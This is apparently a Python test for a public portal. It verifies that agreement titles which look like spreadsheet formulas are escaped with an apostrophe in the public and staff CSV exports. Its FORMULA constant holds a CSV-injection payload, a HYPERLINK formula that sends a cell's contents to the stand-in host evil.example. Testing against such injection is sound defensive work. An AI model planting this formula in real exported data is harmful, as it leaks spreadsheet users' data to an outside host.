"""The portal's open data in hostile hands: what a party typed never runs as a formula on
the computer of a citizen who opens the CSV in a spreadsheet (nor of staff opening their
list's CSV)."""

from __future__ import annotations

import csv
import io

import httpx

from tests.web.live import LiveStack
from tests.web.test_public import act, in_implementation_with_a_score

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


async def test_a_title_that_looks_like_a_formula_stays_text_in_the_portals_csv(web: LiveStack, orgs):
    province, regency = orgs
    running, _ = await in_implementation_with_a_score(web, province, regency, title=FORMULA)
    assert (await act(web, web.user(province, "staff"), running, {"type": "publish"})).status_code == 200

    async with httpx.AsyncClient(base_url=web.base_url) as citizen:
        text = (await citizen.get("/public/agreements.csv")).text
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["id"] == running)
    assert row["title"] == "'" + FORMULA
    assert row["initiator"] == province and row["latest_score"] == "82"

    staff = await web.signed_in_client(web.user(province, "staff"))
    listed = (await staff.get("/ui/agreements.csv")).text
    await staff.aclose()
    assert next(r for r in csv.DictReader(io.StringIO(listed)) if r["id"] == running)["title"] == "'" + FORMULA
